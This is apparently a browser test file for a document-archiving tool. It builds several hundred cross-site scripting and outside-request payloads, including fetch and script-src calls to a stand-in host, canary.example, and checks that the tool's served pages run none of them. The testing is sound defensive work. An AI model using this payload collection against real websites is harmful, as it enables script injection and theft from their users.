/**
 * What was captured is shown, never run: hundreds of payloads that make a browser run script or ask elsewhere, in
 * captured pages and plain texts, in titles and links, looked at in a real browser on every page that shows them. The
 * words that people would read stay as they are.
 */
import type { ChildProcess } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { launchBrowser, noBrowser } from './browser.js';
import { addressOf, Desk } from './onrecord.js';

/** What a payload would do if it ran: leave a mark on the window, or ask a host that is not ours. */
const RUN = 'window.ran=(window.ran||0)+1';
const OUT = 'http://canary.example/x';
const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onbegin',
  'onanimationstart',
  'onpageshow',
  'onfocusin',
  'onpointerenter',
];
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'marquee',
  'iframe',
  'math',
  'select autofocus',
  'audio src=x',
  'button autofocus',
  'object data=x',
  'a href=# autofocus',
];
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  'vbscript:',
  'data:text/html,<script>',
  '\x01javascript:',
];
const SINKS = [
  'a href',
  'iframe src',
  'form action',
  'object data',
  'embed src',
  'base href',
  'area href',
  'button formaction',
  'link rel=stylesheet href',
];
const OUTSIDE = [
  `<img src="${OUT}">`,
  `<img srcset="${OUT} 2x">`,
  `<link rel=stylesheet href="${OUT}">`,
  `<link rel=preload as=image href="${OUT}">`,
  `<link rel=dns-prefetch href="${OUT}">`,
  `<style>@import "${OUT}"; body{background:url(${OUT})}</style>`,
  `<p style="background:url(${OUT})">`,
  `<video poster="${OUT}"><source src="${OUT}"></video>`,
  `<audio src="${OUT}" autoplay></audio>`,
  `<iframe src="${OUT}"></iframe>`,
  `<object data="${OUT}"></object>`,
  `<embed src="${OUT}">`,
  `<meta http-equiv=refresh content="0;url=${OUT}">`,
  `<base href="${OUT}/"><img src=y>`,
  `<svg><image href="${OUT}"/><use href="${OUT}#x"/></svg>`,
  `<table background="${OUT}">`,
  `<input type=image src="${OUT}">`,
  `<script src="${OUT}"></script>`,
  `<form action="${OUT}"><button autofocus>`,
  `<picture><source srcset="${OUT}"><img></picture>`,
];
const SHAPES = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<script\x00>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea></textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `\`><img src=x onerror=\`${RUN}\`>`,
  `<!--[if IE]><script>${RUN}</script><![endif]-->`,
  `<xmp><script>${RUN}</script></xmp>`,
  `<template><script>${RUN}</script></template>`,
  `<iframe srcdoc="<script>${RUN.replace('window', 'parent')}</script>"></iframe>`,
  `\${${RUN}}{{constructor.constructor('${RUN}')()}}`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `\u2028<script>${RUN}</script>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
];
const PAYLOADS = [
  ...TAGS.flatMap((tag) => EVENTS.flatMap((event) => [`<${tag} ${event}=${RUN}>`, `<${tag}/${event}="${RUN}"//`])),
  ...SINKS.flatMap((sink) => SCHEMES.map((scheme) => `<${sink}="${scheme}${RUN}">go</${sink.split(' ')[0]}>`)),
  ...SCHEMES.flatMap((scheme) => [`[words](${scheme}${RUN})`, `![words](${scheme}${RUN})`, `<${scheme}${RUN}>`]),
  ...OUTSIDE,
  ...OUTSIDE.map((payload) => payload.replaceAll('<', '&lt;')),
  ...SHAPES,
  ...SHAPES.map((payload) => encodeURIComponent(payload)),
  ...SHAPES.map((payload) => [...payload].map((c) => `&#${c.codePointAt(0)};`).join('')),
  ...SHAPES.map((payload) => payload.replaceAll(RUN, `fetch('${OUT}')`)),
  ...SHAPES.map((payload) => payload.toUpperCase().replaceAll(RUN.toUpperCase(), RUN)),
];
const PER_TEXT = 60;
/** Every text is looked at in `npm run test:long`, every fourth else. */
const EACH = process.env['ONRECORD_LONG_TESTS'] === '1' ? 1 : 4;

describe.skipIf(noBrowser)(`captured payloads in a browser${noBrowser ? ` (${noBrowser})` : ''}`, () => {
  const desk = new Desk();
  let browser: Browser;
  let child: ChildProcess;
  let address = '';
  let texts = 0;

  beforeAll(async () => {
    const files: Record<string, string> = {};
    for (let from = 0; from < PAYLOADS.length; from += PER_TEXT) {
      const some = PAYLOADS.slice(from, from + PER_TEXT);
      const first = some[0]!.replaceAll(/\p{Cc}/gu, ' ');
      files[`in/page-${from}.html`] =
        `<!doctype html><html lang="en"><head><title>${first}</title><meta name="author" content='${first.replaceAll("'", '&#39;')}'></head><body><main><h1>Notice ${from}</h1>${some.map((payload, i) => `<p>Sentence ${from + i} stands. ${payload}</p>`).join('\n')}</main></body></html>`;
      files[`in/plain-${from}.txt`] =
        `title: ${first}\nspeaker: ${first}\nsource: ${first}\nlanguage: en\n\n${some.map((payload, i) => `Sentence ${from + i} stands. ${payload.replaceAll('\n', ' ')}`).join('\n\n')}\n`;
      files[`in/marked-${from}.md`] =
        `# Notice ${from}\n\n${some.map((payload, i) => `Sentence ${from + i} stands. ${payload}`).join('\n\n')}\n`;
    }
    desk.write(files);
    const added = await desk.run(['add', 'in', '--quiet']);
    expect(added.err).toBe('');
    const { documents } = (await desk.json(['list', '--limit', '1000'])) as { documents: unknown[] };
    texts = documents.length;
    child = desk.start(['serve', '--port', '0']);
    address = await addressOf(child);
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    child?.kill('SIGINT');
    desk.clear();
  });

  it(`of which there are ${PAYLOADS.length}, run nothing and ask nobody`, { timeout: 300_000 }, async () => {
    expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(500);
    expect(texts).toBeGreaterThan(PAYLOADS.length / PER_TEXT);
    const page = await browser.newPage();
    const wrong: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(address) && !request.url().startsWith('data:'))
        wrong.push(`asked for ${request.url()}`);
    });
    page.on('dialog', (dialog) => {
      wrong.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('popup', (popup) => void wrong.push(`opened ${popup.url()}`));
    const paths = [
      '/',
      '/texts',
      '/search?q=sentence',
      ...Array.from({ length: Math.ceil(texts / EACH) }, (_, i) => `/texts/d${1 + i * EACH}`),
    ];
    let sentences = 0;
    for (const path of paths) {
      const answer = await page.goto(address + path, { waitUntil: 'load' });
      expect(answer!.status(), path).toBe(200);
      // Whatever waits for a hand on it is given one.
      await page.evaluate(
        `for (const one of document.querySelectorAll('main *')) { one.dispatchEvent(new Event('mouseover')); if (one.tabIndex >= 0 && one.focus) one.focus(); }`,
      );
      expect(await page.evaluate('window.ran ?? 0'), path).toBe(0);
      expect(page.url(), path).toBe(address + path);
      const live = await page.evaluate(
        `[...document.querySelectorAll('a[href], form[action], iframe, object, embed, [srcdoc]')].map((one) => one.getAttribute('href') ?? one.getAttribute('action') ?? one.tagName).filter((to) => !/^(?:https?:|\\/|#|\\?|mailto:)/.test(to) && !/^[\\w./-]*$/.test(to))`,
      );
      expect(live, path).toEqual([]);
      if (path.startsWith('/texts/'))
        sentences += ((await page.textContent('main')) ?? '').match(/Sentence \d+ stands\./g)?.length ?? 0;
    }
    expect(wrong).toEqual([]);
    // What a person could have read can be read; some payloads hide what stands behind them from everybody.
    expect(sentences).toBeGreaterThan(((PAYLOADS.length * 3) / EACH) * 0.6);
  });
});
